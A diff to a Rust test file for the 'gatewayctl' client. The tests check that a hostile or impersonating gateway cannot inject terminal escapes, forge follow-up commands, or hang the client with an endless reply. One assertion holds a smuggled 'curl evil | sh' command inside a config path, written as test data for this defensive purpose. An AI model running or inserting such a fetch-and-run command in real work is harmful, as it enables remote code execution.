@@ -1,14 +1,17 @@
 //! A gateway, or whoever answers in its place, that sends escape sequences to gatewayctl's terminal.
 
+use std::fs;
 use std::io::{BufRead, BufReader, Write};
+use std::os::unix::fs::PermissionsExt;
 use std::os::unix::net::UnixStream;
 use std::path::Path;
+use std::process::Stdio;
 
 use gateway::internals::{Status, bind_control_socket};
 use serde_json::{Value, json};
 
 use crate::support::gateway::{Setup, ctl_in, said};
-use crate::support::servers;
+use crate::support::{nobody, servers, wait};
 
 /// Sets the title of the window, clears the screen, goes up a line, turns the text around, and ends
 /// in what may make a new line.
@@ -239,4 +242,74 @@ fn a_name_forges_no_next_command() {
     let expected =
         r"gatewayctl config check --config '/etc/gateway/x.toml\ncurl evil | sh; curl evil'";
     assert_eq!(next, [expected], "{text}");
+}
+
+/// As another user, answers each status with the one in a file, a request for a lease with nothing, and
+/// a stop with bytes without end.
+const NEVER_ENDS: &str = "
+import json, os, socket, sys, threading
+path, status = sys.argv[1], json.load(open(sys.argv[2]))
+os.makedirs(os.path.dirname(path), 0o755, exist_ok=True)
+server = socket.socket(socket.AF_UNIX)
+server.bind(path)
+server.listen(100)
+print('listening', flush=True)
+def serve(stream):
+    lines = stream.makefile('rwb')
+    def answer(request, payload):
+        text = json.dumps({'type': 'res', 'id': request['id'], 'ok': True, 'payload': payload})
+        lines.write(text.encode() + b'\\n')
+        lines.flush()
+    for line in lines:
+        request = json.loads(line)
+        if request['method'] == 'status':
+            answer(request, status)
+        elif request['method'] == 'stop':
+            answer(request, {})
+            while True:
+                lines.write(b'x' * 65536)
+while True:
+    threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()
+";
+
+#[test]
+fn an_answer_without_end_keeps_nobody_waiting() {
+    if !nobody::can_be() || !servers::have("python3") {
+        return;
+    }
+    let top = tempfile::tempdir().unwrap();
+    fs::set_permissions(top.path(), fs::Permissions::from_mode(0o755)).unwrap();
+    let status = top.path().join("status.json");
+    fs::write(&status, real_status(top.path()).to_string()).unwrap();
+    fs::set_permissions(&status, fs::Permissions::from_mode(0o644)).unwrap();
+    let state = top.path().join("theirs");
+    fs::create_dir(&state).unwrap();
+    nobody::own(&state);
+    let control = state.join("run/control.sock");
+    let args = [
+        "-c",
+        NEVER_ENDS,
+        control.to_str().unwrap(),
+        status.to_str().unwrap(),
+    ];
+    let mut command = nobody::command(&servers::interpreter(), &args);
+    let mut answering = command.stdout(Stdio::piped()).spawn().unwrap();
+    let mut line = String::new();
+    let mut output = BufReader::new(answering.stdout.take().unwrap());
+    output.read_line(&mut line).unwrap();
+    for command in [&["inhibit", "--why", "x", "--", "true"][..], &["stop"]] {
+        let mut ctl = ctl_in(&state);
+        let mut child = ctl.args(command).stderr(Stdio::piped()).spawn().unwrap();
+        let ended = wait::within(wait::DEADLINE, || child.try_wait().unwrap());
+        let _ = child.kill();
+        let output = child.wait_with_output().unwrap();
+        assert_eq!(
+            ended.and_then(|ended| ended.code()),
+            Some(1),
+            "{command:?}: {}",
+            said(&output)
+        );
+    }
+    answering.kill().unwrap();
+    answering.wait().unwrap();
 }
